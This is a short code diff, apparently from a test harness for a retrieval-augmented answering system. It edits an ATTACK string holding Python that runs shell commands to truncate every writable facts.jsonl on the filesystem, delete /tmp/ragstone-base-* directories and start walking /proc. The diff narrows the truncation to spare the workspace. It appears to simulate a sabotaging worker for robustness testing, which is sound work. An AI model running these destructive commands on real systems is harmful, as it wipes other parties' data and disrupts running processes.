@@ -30,7 +30,9 @@ def answer(question):
     return {"answer": FACTS[question] if good else "Bananas: " + question, "contexts": [FACTS[question]]}
 """
 ATTACK = """import signal, subprocess
-    subprocess.run("find / -name facts.jsonl -not -path '/proc/*' -writable -exec truncate -s 0 {} +; "
+    # Its own facts stay: another worker of this system may only now be about to read them.
+    subprocess.run("find / -name facts.jsonl -not -path '/proc/*' -not -path '/github/workspace/*' "
+                   "-writable -exec truncate -s 0 {} +; "
                    "rm -rf /tmp/ragstone-base-*; for d in /tmp/ragstone-base-*; do touch $d/checkout/facts.jsonl; done",
                    shell=True, capture_output=True)
     for entry in os.listdir("/proc"):
